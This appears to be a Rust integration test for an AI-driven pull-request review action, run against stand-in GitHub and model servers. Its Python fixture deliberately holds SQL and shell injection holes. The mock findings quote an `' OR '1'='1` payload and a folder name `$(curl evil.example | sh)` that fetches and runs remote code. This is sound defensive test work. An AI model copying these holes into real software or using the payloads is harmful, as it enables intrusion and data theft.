//! The whole action on a pull request over two pushes, with a checkout of depth 1, GitHub and a model's server as stand-ins, and nothing else.
//! `PENTAD_TEST_STEP` names a program that runs the step in place of this build, as one that starts a container does; a folder of
//! `PENTAD_TEST_SHOW` keeps what was asked and what was written.

use super::{
    checkouts::Hosted,
    described::Description,
    pull::{Pull, Shared},
    rest::{Rest, Rules},
    server::{Asked, GitHubStandIn, Reply},
};
use crate::{
    program::{Ran, run},
    stand_in::{self, Script, StandIn},
};
use serde_json::{Value, json};
use std::{
    collections::BTreeMap,
    env, fs,
    path::Path,
    process::Command,
    sync::{
        Arc, Mutex,
        atomic::{AtomicU32, Ordering},
    },
};

const FILE: &str = "shop/refunds.py";
const TOP: &str = "import os\n\nfrom shop import ledger\n\n\ndef load(connection, order_id):\n    query = \"SELECT * FROM refunds WHERE order_id = ?\"\n    return connection.execute(query, (order_id,)).fetchall()\n";
const SQL: &str =
    "    return connection.execute(f\"SELECT * FROM refunds WHERE email = '{email}'\").fetchall()";
const BOUND: &str =
    "    return connection.execute(\"SELECT * FROM refunds WHERE email = ?\", (email,)).fetchall()";
const TWICE: &str = "    if reply.timed_out:\n        reply = gateway.send(order.card, cents)";
const EXPORT: &str =
    "\n\ndef export(order_id, folder):\n    os.system(f\"cp refunds/{order_id}.csv {folder}\")\n";
const SHELL: &str = "    os.system(f\"cp refunds/{order_id}.csv {folder}\")";

fn code(query: &str, more: &str) -> String {
    format!(
        "{TOP}\n\ndef find(connection, email):\n{query}\n\n\ndef refund(gateway, order, cents):\n    reply = gateway.send(order.card, cents)\n{TWICE}\n    ledger.book(order.id, cents)\n    return reply\n{more}"
    )
}

fn finding(slug: &str, severity: &str, quote: &str, said: [&str; 4]) -> Value {
    let text = code(if quote == SQL { SQL } else { BOUND }, EXPORT);
    let line = text[..text.find(quote).unwrap()].lines().count() + 1;
    json!({"slug": slug, "file_path": FILE, "line_hint": line.to_string(), "severity": severity, "claim": said[0], "evidence_quote": quote,
        "cause_quote": null, "failure_scenario": said[1], "proposed_change": said[2], "disproof": said[3], "locked_conflict": false,
        "escalate": false, "references": [], "relation": null})
}

fn injection() -> Value {
    finding(
        "email-in-sql",
        "critical",
        SQL,
        [
            "`find` puts the customer's email into the text of the query, so whoever writes the email writes SQL",
            "An email of `' OR '1'='1` lists every customer's refunds; one with `; DROP` may do worse, as the driver allows.",
            "```python\n    return connection.execute(\"SELECT * FROM refunds WHERE email = ?\", (email,)).fetchall()\n```",
            "A caller that admits only emails of a form without quotes, for every path to `find`.",
        ],
    )
}

fn twice() -> Value {
    finding(
        "refund-sent-twice",
        "high",
        TWICE,
        [
            "A refund whose answer times out is sent again without an idempotency key, and can be paid twice",
            "The gateway books the first `send`, its answer is lost after 30 s, and the second `send` pays the same amount again. The ledger holds one of them.",
            "Make a key once per refund, store it with the order before the first `send`, and send it along both times.",
            "The gateway drops a second `send` of the same card and amount within its time limit.",
        ],
    )
}

fn shell() -> Value {
    finding(
        "folder-in-shell",
        "critical",
        SHELL,
        [
            "`export` gives a folder's name to a shell, which runs what it says",
            "A folder named `$(curl evil.example | sh)` runs with the shop's rights.",
            "Copy with `shutil.copyfile`, and refuse a folder outside of the exports.",
            "",
        ],
    )
}

/// What a reviewer says: the defects that stand, and of earlier ones whether they do.
fn reply(push: u32, asked: &stand_in::Asked) -> Script {
    let found = match (push, asked.loop_n, asked.role.as_str()) {
        (1, 1, "security") => vec![injection()],
        (1, 1, "correctness") => vec![twice()],
        (2, 1, "security") => vec![shell()],
        _ => Vec::new(),
    };
    let task = asked.body["messages"][0]["content"].as_array().unwrap().last().unwrap();
    let earlier = task["text"].as_str().unwrap().lines();
    let earlier = earlier.filter(|it| it.starts_with('{') && it.contains("\"old_quote\""));
    let verdicts = earlier.filter_map(|it| serde_json::from_str::<Value>(it).ok()).map(|it| {
        let stands = it["old_quote"].as_str().is_some_and(|it| it.contains("gateway"));
        let (word, quote, contradicts, reason) = if stands {
            ("sustain", TWICE, Value::Null, "No key is sent yet.")
        } else {
            ("refute", BOUND, it["claim"].clone(), "The email is a parameter now.")
        };
        json!({"finding_id": it["id"], "verdict": word, "file_path": FILE, "evidence_quote": quote, "contradicts": contradicts, "reason": reason})
    });
    let said = json!({"summary": "The change was followed from its callers to the database.", "findings": found,
        "verdicts": verdicts.collect::<Vec<_>>(), "merges": []});
    Script::say(&said.to_string())
}

struct Scene {
    hosted: Hosted,
    pull: Shared,
    model: StandIn,
    push: Arc<AtomicU32>,
}

impl Scene {
    fn new() -> Self {
        Self::saying(SQL, reply)
    }

    /// With a query in the first push, and a model that says so in each.
    fn saying(query: &str, reply: fn(u32, &stand_in::Asked) -> Script) -> Self {
        let charter = "version: 1\ngate: {fail_on: high}\npublish: {check: true}\n";
        let hosted = Hosted::small(
            &[(FILE, TOP), (".pentad/pentad.yml", charter)],
            &[(FILE, &code(query, ""))],
        );
        let push = Arc::new(AtomicU32::new(0));
        let now = Arc::clone(&push);
        let model = StandIn::start(move |asked| reply(now.load(Ordering::SeqCst), asked));
        Self { hosted, pull: Arc::new(Mutex::new(Pull::of("", &[]))), model, push }
    }

    /// Brings the head of the branch, and reviews it as the step of a workflow that it starts.
    fn push(&mut self, action: &str) -> (Ran, GitHubStandIn) {
        let push = self.push.fetch_add(1, Ordering::SeqCst) + 1;
        let hosted = &self.hosted;
        hosted.git(&["checkout", "--quiet", "--detach", "main"]);
        hosted.git(&["merge", "--quiet", "--no-ff", "--message", "Merge topic into main", "topic"]);
        hosted.git(&["update-ref", "refs/pull/7/merge", "HEAD"]);
        let patch = hosted.git(&["diff", "--unified=3", &hosted.base, &hosted.head, "--", FILE]);
        let patch = patch.find("@@").map_or_else(String::new, |at| patch[at..].to_owned());
        {
            let mut pull = self.pull.lock().unwrap();
            pull.head.clone_from(&hosted.head);
            pull.files = vec![(FILE.to_owned(), hunks(&patch))];
        }
        let workspace = hosted.checkout_as("depth-1", &format!("push-{push}"));
        let listed = json!([{"filename": FILE, "status": "modified", "patch": patch}]);
        let listed = if patch.is_empty() { json!([]) } else { listed };
        let pull = Arc::clone(&self.pull);
        let rest = Rest::of(&hosted.dir(), Rules::default());
        let github = GitHubStandIn::serving(rest, move |asked| answer(&pull, &listed, asked));
        let mut event = hosted.event();
        event["action"] = json!(action);
        event["pull_request"]["user"] = json!({"login": "author"});
        event["pull_request"]["comments"] = json!(self.pull.lock().unwrap().comments.len());
        for side in ["base", "head"] {
            event["pull_request"][side]["repo"] =
                json!({"id": 1, "full_name": "acme/shop", "fork": false});
        }
        let mut command = hosted.command(&workspace, &github, "pull_request", &event);
        command.env("GITHUB_RUN_ID", push.to_string()).env("GITHUB_JOB", "review");
        command.env("INPUT_ANTHROPIC_API_KEY", "sk-ant-planted");
        command.env("INPUT_ANTHROPIC_BASE_URL", self.model.url());
        (run(&mut instead(command)), github)
    }

    /// Another commit on the branch, with the file as it is to be, and its review.
    fn pushed(&mut self, text: &str) -> (Ran, Value) {
        self.hosted.git(&["checkout", "--quiet", "topic"]);
        self.hosted.write(FILE, text);
        self.hosted.head = self.hosted.commit("Go on");
        let (ran, _) = self.push("synchronize");
        let out = format!("push-{}", self.push.load(Ordering::SeqCst));
        (ran, self.hosted.synthesis(&out))
    }

    /// Somebody comments.
    fn said(&self, login: &str, body: &str) {
        let mut pull = self.pull.lock().unwrap();
        let mut said = pull.said(login, body);
        said["created_at"] = json!("2099-01-01T00:00:00Z");
        said["updated_at"] = json!("2099-01-01T00:00:00Z");
        pull.comments.push(said);
    }

    /// The one comment.
    fn sticky(&self) -> String {
        let pull = self.pull.lock().unwrap();
        assert_eq!(pull.comments.len(), 1, "{:#?}", pull.comments);
        pull.comments[0]["body"].as_str().unwrap().to_owned()
    }
}

/// The lines that each hunk shows at head.
fn hunks(patch: &str) -> Vec<(u32, u32)> {
    let heads = patch.lines().filter_map(|it| it.strip_prefix("@@ -")?.split(" +").nth(1));
    let range = |it: &str| {
        let (first, n) = it.split(' ').next().unwrap().split_once(',').unwrap();
        let (first, n): (u32, u32) = (first.parse().unwrap(), n.parse().unwrap());
        (first, first + n - 1)
    };
    heads.map(range).collect()
}

/// What of the pull request is asked for; objects are the repository's.
fn answer(pull: &Shared, listed: &Value, asked: &Asked) -> Option<Reply> {
    let path = asked.path.strip_prefix("/repos/acme/shop/").unwrap_or(&asked.path);
    let objects = path.starts_with("git/") || path.starts_with("compare/");
    let contents = asked.body["query"].as_str().is_some_and(|it| it.contains("object(oid:"));
    match path {
        // Whoever is asked about may write.
        _ if path.starts_with("collaborators/") => {
            Some(Reply::json(&json!({"permission": "write", "role_name": "write"})))
        }
        _ if objects || contents => None,
        "pulls/7/files" => Some(Reply::json(listed)),
        _ => Some(pull.lock().unwrap().answer(asked)),
    }
}

/// The same command, by the program that is to run it.
fn instead(command: Command) -> Command {
    let Some(program) = env::var_os("PENTAD_TEST_STEP") else { return command };
    let mut other = Command::new(program);
    other.current_dir(command.get_current_dir().unwrap());
    other.envs(command.get_envs().filter_map(|(name, value)| Some((name, value?))));
    other
}

/// Keeps what came of a push.
fn show(n: u32, scene: &Scene, ran: &Ran, github: &GitHubStandIn) {
    let Some(folder) = env::var_os("PENTAD_TEST_SHOW") else { return };
    let keep = |name: &str, text: &str| {
        fs::write(Path::new(&folder).join(format!("push-{n}-{name}")), text).unwrap();
    };
    let line = |it: &Asked| {
        let query: Vec<String> =
            it.query.iter().map(|(name, value)| format!("{name}={value}")).collect();
        let query = if query.is_empty() { String::new() } else { format!("?{}", query.join("&")) };
        let asks = it.body["query"]
            .as_str()
            .map(|it| format!("  {}", it.chars().take(70).collect::<String>()));
        let status = github.status(it.n).map_or_else(String::new, |it| it.to_string());
        format!("{status} {} {}{query}{}\n", it.method, it.path, asks.unwrap_or_default())
    };
    keep("requests.txt", &github.journal().iter().map(line).collect::<String>());
    let mut asked: BTreeMap<(u32, String), u32> = BTreeMap::new();
    for it in scene.model.journal() {
        *asked.entry((it.loop_n, it.role)).or_default() += 1;
    }
    keep("model.txt", &format!("{asked:#?}"));
    keep("sticky.md", &scene.sticky());
    let pull = scene.pull.lock().unwrap();
    keep("threads.json", &format!("{:#}", json!(pull.threads)));
    keep("reviews.json", &format!("{:#}", json!(pull.reviews)));
    keep("checks.json", &format!("{:#}", json!(pull.checks)));
    keep("out.txt", &ran.out);
    keep("err.txt", &ran.err);
}

fn writes(github: &GitHubStandIn) -> Vec<String> {
    let journal = github.journal();
    let writes = journal.iter().filter(|it| {
        it.method != "GET" && it.body["query"].as_str().is_none_or(|it| it.starts_with("mutation"))
    });
    writes.map(|it| format!("{} {}", it.method, it.path.replace("/repos/acme/shop/", ""))).collect()
}

#[test]
fn a_pull_request_is_reviewed_and_the_push_that_mends_one_finding_keeps_one_and_brings_one() {
    let mut scene = Scene::new();
    let (ran, github) = scene.push("opened");
    assert_eq!(ran.code, Some(1), "{}{} {:#?}", ran.out, ran.err, github.paths());
    assert!(
        scene.pull.lock().unwrap().comments.len() == 1,
        "{}{} {:#?}",
        ran.out,
        ran.err,
        github.paths()
    );
    show(1, &scene, &ran, &github);
    let first = scene.sticky();
    assert!(first.contains("fail: ") && !first.contains("Since push"), "{first}");
    assert_eq!(
        writes(&github),
        ["POST issues/7/comments", "POST pulls/7/reviews", "POST check-runs"],
        "{}",
        ran.err
    );
    described(&github);

    scene.hosted.git(&["checkout", "--quiet", "topic"]);
    scene.hosted.write(FILE, &code(BOUND, EXPORT));
    scene.hosted.head = scene.hosted.commit("Bind the email; export refunds");
    let (ran, github) = scene.push("synchronize");
    show(2, &scene, &ran, &github);
    assert_eq!(ran.code, Some(1), "{}{}", ran.out, ran.err);
    let second = scene.sticky();
    for part in ["**Since push 1**", "- 1 new: ", "- 1 resolved: ", "- 1 still open: "] {
        assert!(second.contains(part), "{part}: {second}");
    }
    assert_eq!(
        writes(&github),
        [
            "PATCH issues/comments/1",
            "POST pulls/7/reviews",
            "POST /graphql",
            "PATCH pulls/comments/2",
            "POST check-runs"
        ],
        "{}",
        ran.err
    );
    described(&github);
    let pull = scene.pull.lock().unwrap();
    let hidden: Vec<bool> =
        pull.threads.iter().map(|it| it[0]["minimized"] == json!(true)).collect();
    assert_eq!(hidden, [true, false, false], "{:#?}", pull.threads);
}

/// How often the pull request's comments were read.
fn read(github: &GitHubStandIn) -> usize {
    let asks =
        |it: &&Asked| it.body["query"].as_str().is_some_and(|it| it.contains("reviewThreads("));
    github.journal().iter().filter(asks).count()
}

#[test]
fn comments_are_read_once_unless_more_was_said_meanwhile() {
    let mut scene = Scene::new();
    let (_, github) = scene.push("opened");
    assert_eq!(read(&github), 1);
    let (_, github) = scene.push("synchronize");
    assert_eq!(read(&github), 1);
    // Somebody answers while a model is asked: that thread is theirs.
    let (pull, model) = (Arc::clone(&scene.pull), Arc::clone(&scene.push));
    scene.model = StandIn::start(move |asked| {
        let mut pull = pull.lock().unwrap();
        if pull.threads[0].len() == 1 {
            let said = pull.said("ann", "no");
            pull.threads[0].push(said);
        }
        reply(model.load(Ordering::SeqCst).min(2), asked)
    });
    let (ran, github) = scene.push("synchronize");
    assert_eq!(read(&github), 2, "{}", ran.err);
}

fn described(github: &GitHubStandIn) {
    let Some(description) = Description::there() else { return };
    for asked in github.journal() {
        description.hold(&asked).unwrap();
    }
}

/// A reviewer that finds the same in each push, and calls it worse each time.
fn worse(push: u32, asked: &stand_in::Asked) -> Script {
    let mut found = twice();
    found["severity"] = json!(["medium", "high", "critical", "critical"][push as usize - 1]);
    let speaks = asked.loop_n == 1 && asked.role == "correctness";
    let found = if speaks { vec![found] } else { Vec::new() };
    let said = json!({"summary": "s", "findings": found, "verdicts": [], "merges": []});
    Script::say(&said.to_string())
}

#[test]
fn what_was_accepted_as_medium_is_not_accepted_as_high_two_pushes_later_until_somebody_says_so_again()
 {
    let mut scene = Scene::saying(BOUND, worse);
    let first = scene.push("opened").0;
    assert_eq!(first.code, Some(0), "{}{}", first.out, first.err);
    let finding = scene.hosted.synthesis("push-1")["findings"][0].clone();
    assert_eq!(finding["severity"], "medium", "{finding:#}");
    let waive = format!("/pentad waive {} it is ours", finding["id"].as_str().unwrap());
    scene.said("mona", &waive);
    let of = |synthesis: &Value| {
        let all = synthesis["findings"].as_array().unwrap();
        let it = all.iter().find(|it| it["fingerprint"] == finding["fingerprint"]).unwrap();
        (it["severity"].clone(), it["state"].clone())
    };
    for (n, severity) in [(1, "high"), (2, "critical")] {
        let (ran, synthesis) = scene.pushed(&code(BOUND, &"# More.\n".repeat(n)));
        assert_eq!(of(&synthesis), (json!(severity), json!("open")), "{}", synthesis["notices"]);
        assert_eq!(ran.code, Some(1), "{}", ran.err);
        let told = format!("it was accepted as medium and is {severity} now");
        assert!(synthesis["notices"].to_string().contains(&told), "{}", synthesis["notices"]);
        assert_eq!(synthesis["accepted"][0]["severity"], "medium");
    }
    scene.said("mona", &waive);
    let (ran, synthesis) = scene.pushed(&code(BOUND, &"# More.\n".repeat(3)));
    assert_eq!(of(&synthesis), (json!("critical"), json!("waived")), "{}", synthesis["notices"]);
    assert_eq!(ran.code, Some(0), "{}", ran.err);
}

#[test]
fn a_change_that_was_taken_back_passes_and_fails_again_with_its_code() {
    let mut scene = Scene::new();
    assert_eq!(scene.push("opened").0.code, Some(1));
    let (ran, synthesis) = scene.pushed(TOP);
    assert_eq!((ran.code, &synthesis["verdict"]), (Some(0), &json!("pass")), "{synthesis:#}");
    let all = synthesis["findings"].as_array().unwrap();
    assert_eq!(all.len(), 2, "none is lost: {all:#?}");
    assert!(all.iter().all(|it| it["state"] == "open" && it["in_change"] == false), "{all:#?}");
    let ledger = synthesis["ledger"].to_string();
    assert!(ledger.contains("nothing differs between base and head"), "{ledger}");
    let (ran, synthesis) = scene.pushed(&code(SQL, ""));
    assert_eq!((ran.code, &synthesis["verdict"]), (Some(1), &json!("fail")), "{synthesis:#}");
    assert!(synthesis["reasons"].to_string().contains("open since push 1"));
}

#[test]
fn a_server_without_graphql_remembers_from_push_to_push() {
    let mut scene = Scene::new();
    scene.pull.lock().unwrap().graphql = false;
    assert_eq!(scene.push("opened").0.code, Some(1));
    let first = scene.pull.lock().unwrap().comments[0]["id"].clone();
    for push in [2, 3] {
        let (ran, synthesis) = scene.pushed(&code(SQL, &"# More.\n".repeat(push)));
        assert_eq!(ran.code, Some(1), "{}", ran.err);
        assert_eq!(synthesis["push"], push, "{}", synthesis["reasons"]);
        let open = synthesis["since"]["still_open"].as_array().unwrap();
        for id in ["security-L1-email-in-sql", "correctness-L1-refund-sent-twice"] {
            assert!(open.contains(&json!(id)), "{}", synthesis["since"]);
        }
        let reasons = synthesis["reasons"].to_string();
        assert!(!reasons.contains("what earlier pushes left"), "{reasons}");
    }
    let _one = scene.sticky();
    assert_ne!(scene.pull.lock().unwrap().comments[0]["id"], first);
    // Somebody changes it, and who cannot be told: it obliges nobody, and that is said.
    scene.pull.lock().unwrap().comments[0]["updated_at"] = json!("2099-01-01T00:00:00Z");
    let (_, synthesis) = scene.pushed(&code(SQL, "# Other.\n"));
    let reasons = synthesis["reasons"].to_string();
    assert!(reasons.contains("by whom is not known"), "{reasons}");
}
